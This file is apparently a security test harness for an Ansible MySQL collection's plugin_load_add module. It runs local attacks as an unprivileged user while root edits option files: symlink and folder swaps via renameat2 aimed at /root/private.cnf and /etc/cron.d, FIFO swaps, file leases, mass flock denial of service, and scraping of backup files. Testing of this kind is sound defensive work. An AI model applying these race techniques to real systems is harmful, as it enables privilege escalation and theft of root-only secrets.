# Copyright (c) 2026, the dbfleet.mysql authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Attack the option files that root edits with plugin_load_add, while it does so.

Usage: attack_option_files.py KIND SECONDS. Runs the module as root again and again for that long,
while an account of the host does what KIND says, and prints a JSON object: the number of ``runs``,
how many of them ``hung``, how long the ``longest`` took, the error ``codes`` seen, what was looted
(``loot``), and how often what is root's was ``changed``.
"""

from __future__ import annotations

import collections
import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import stat
import sys
import time
from typing import Any, Callable

from accounts import run_bounded, running_as
from ansible_collections.dbfleet.mysql.plugins.modules import plugin_load_add

ATTACKER = "bob"
SECRET = "for-root-only-1234"  # noqa: S105 - planted
PRIVATE = "/root/private.cnf"
PRIVATE_TEXT = f"[mysqld]\n# {SECRET}\n"
LOOT = "/srv/loot"
#: The attacker's folder.
FOLDER = "/srv/bob"
#: Where a lease works, whatever the container's own file system is.
LEASED = "/dev/shm/leased.cnf"  # noqa: S108 - a test's
EXCHANGE = 2  # RENAME_EXCHANGE of renameat2(2)
AT_FDCWD = -100

_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one: str, other: str) -> None:
    """Let two names in the file system change places in one moment."""
    _libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), EXCHANGE)


def take(path: str) -> None:
    """Keep what the attacker can read in a file of his, where it is root's secret."""
    with contextlib.suppress(OSError):
        handle = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
        try:
            if SECRET.encode() in os.read(handle, 1 << 20):
                with open(f"{LOOT}/{time.monotonic_ns()}", "w") as loot:
                    loot.write(path)
        finally:
            os.close(handle)


def put(path: str, link_to: str) -> None:
    """Make a new file, or a link, in place of a name."""
    with contextlib.suppress(OSError):
        os.unlink(path + ".made")
    if link_to:
        os.symlink(link_to, path + ".made")
    else:
        with open(path + ".made", "w") as file:
            file.write("[mysqld]\n")
    os.rename(path + ".made", path)


def exchange_file() -> None:
    """Let the option file be a file of the attacker's and a link to root's in turn."""
    one, other = f"{FOLDER}/my.cnf", f"{FOLDER}/other"
    put(one, "")
    put(other, PRIVATE)
    while True:
        exchange(one, other)
        take(other)
        take(one)
        with contextlib.suppress(OSError):
            if os.path.islink(one) == os.path.islink(other):
                put(other, "" if os.path.islink(one) else PRIVATE)
        for name in os.listdir(FOLDER):
            if name not in ("my.cnf", "other", "other.made"):
                take(f"{FOLDER}/{name}")


def exchange_folder() -> None:
    """Let the option file's folder be the attacker's and a link to /etc/cron.d in turn."""
    one, other = f"{FOLDER}/d", f"{FOLDER}/other"
    os.mkdir(one)
    put(f"{one}/my.cnf", "")
    put(other, "/etc/cron.d")
    while True:
        exchange(one, other)


def exchange_with_fifos() -> None:
    """Let option files that root includes be regular ones and FIFOs in turn."""
    names = [f"{FOLDER}/{number:03}.cnf" for number in range(100)]
    for name in names:
        put(name, "")
        os.mkfifo(name + ".fifo")
    while True:
        for name in names:
            exchange(name, name + ".fifo")


def hold_leases() -> None:
    """Hold a lease on an option file that root includes: whoever opens it waits for its end."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    put(LEASED, "")
    while True:
        handle = os.open(LEASED, os.O_RDWR | os.O_NONBLOCK)
        with contextlib.suppress(OSError):
            fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_WRLCK)
            with open(f"{FOLDER}/leased", "w") as file:
                file.write(str(fcntl.fcntl(handle, fcntl.F_GETLEASE)))
        time.sleep(3600)


def watch() -> None:
    """Open whatever appears beside a root-only option file."""
    known = set(os.listdir("/etc/mysql"))
    while True:
        for name in os.listdir("/etc/mysql"):
            if name not in known:
                end = time.monotonic() + 0.2
                with contextlib.suppress(OSError), open(f"/etc/mysql/{name}", "rb") as file:
                    while time.monotonic() < end:
                        if SECRET.encode() in file.read():
                            with open(f"{LOOT}/{time.monotonic_ns()}", "w") as loot:
                                loot.write(name)
                            break
                known.add(name)


def hold_locks() -> None:
    """Lock all that the attacker can open, so that nobody else can."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    held = []
    for top in ("/", "/etc", "/run", "/var", "/tmp", "/dev/shm", "/usr", "/srv"):  # noqa: S108
        for folder, folders, files in os.walk(top):
            depth = folder[len(top.rstrip("/")) :].count("/")
            if depth >= (1 if top == "/" else 2):
                folders.clear()
            for path in [folder, *(os.path.join(folder, name) for name in files)]:
                with contextlib.suppress(OSError):
                    mode = os.lstat(path).st_mode
                    if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode)):
                        continue
                    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    held.append(handle)
    with open(f"{FOLDER}/locked", "w") as file:
        file.write(str(len(held)))
    time.sleep(3600)


class Attack:
    """An attack: what the attacker does, the module's options, and what root does for it before."""

    def __init__(
        self, work: Callable[[], None], before: Callable[[], None], **options: Any
    ) -> None:
        self.work = work
        self.before = before
        self.options = {"validate_config": "never", **options}


def include_folder() -> None:
    """Let MySQL's own option file include the attacker's folder."""
    with open("/etc/mysql/mysql.cnf", "w") as file:
        file.write(f"[mysqld]\n!includedir {FOLDER}\n")


def include_leased() -> None:
    """Let MySQL's own option file include one on which a lease may be held."""
    with open("/etc/mysql/mysql.cnf", "w") as file:
        file.write(f"[mysqld]\n!include {LEASED}\n")


def private_option_file() -> None:
    """Let MySQL's own option file be one that only root may read."""
    with open("/etc/mysql/mysql.cnf", "w") as file:
        file.write("[mysqld]\n" + "# filler\n" * 100000 + f"# {SECRET}\n")
    os.chmod("/etc/mysql/mysql.cnf", 0o600)


def nothing() -> None:
    """Prepare nothing."""


ATTACKS: dict[str, Attack] = {
    "file": Attack(exchange_file, nothing, option_file=f"{FOLDER}/my.cnf", backup=True),
    "file in place": Attack(
        exchange_file, nothing, option_file=f"{FOLDER}/my.cnf", unsafe_writes=True
    ),
    "drop-in": Attack(exchange_file, include_folder, drop_in=f"{FOLDER}/my.cnf", backup=True),
    "folder": Attack(exchange_folder, nothing, option_file=f"{FOLDER}/d/my.cnf"),
    "fifo": Attack(exchange_with_fifos, include_folder),
    "lease": Attack(hold_leases, include_leased),
    "backup": Attack(watch, private_option_file, backup=True),
    "locks": Attack(hold_locks, nothing),
}


#: Attacks that let the module edit what it should.
BESIDES = (watch, hold_locks, hold_leases)


def runs(attack: Attack, seconds: float) -> dict[str, Any]:
    """Run the module until the time is up and return what it came to."""
    end = time.monotonic() + seconds
    codes: collections.Counter[str] = collections.Counter()
    count = hung = changed = 0
    before = os.listdir("/etc/cron.d")
    states = ("present", "absent")
    longest = 0.0
    while time.monotonic() < end:
        state = states[count % 2] if attack.work in BESIDES else "present"
        done = run_bounded(plugin_load_add, {**attack.options, "state": state}, 20)
        count += 1
        longest = max(longest, done.seconds)
        hung += done.hung
        result = done.result or {"error_code": "no result: " + done.errors[-300:]}
        codes[str(result.get("error_code", "none"))] += 1
        with open(PRIVATE) as file:
            if file.read() != PRIVATE_TEXT:
                changed += 1
                private()
        for name in os.listdir("/etc/cron.d"):
            if name not in before:
                changed += 1
                os.unlink(f"/etc/cron.d/{name}")
    return {"runs": count, "hung": hung, "codes": codes, "changed": changed, "longest": longest}


def private() -> None:
    """Write a file that only root may read."""
    with open(PRIVATE, "w") as file:
        file.write(PRIVATE_TEXT)
    os.chmod(PRIVATE, 0o600)


def main() -> None:
    """Run the attack that the command line names."""
    attack = ATTACKS[sys.argv[1]]
    seconds = float(sys.argv[2])
    private()
    os.makedirs("/etc/cron.d", exist_ok=True)
    # Where a lock is a file that is there only from the first run on, it is there now.
    first = run_bounded(plugin_load_add, {"validate_config": "never"}, 20)
    attack.before()
    with running_as(ATTACKER, attack.work):
        if attack.work is hold_locks:
            while not os.path.exists(f"{FOLDER}/locked"):
                time.sleep(0.05)
        else:
            time.sleep(0.2)
        found = runs(attack, seconds)
    print(json.dumps({**found, "loot": os.listdir(LOOT), "first": first.result is not None}))


if __name__ == "__main__":
    main()
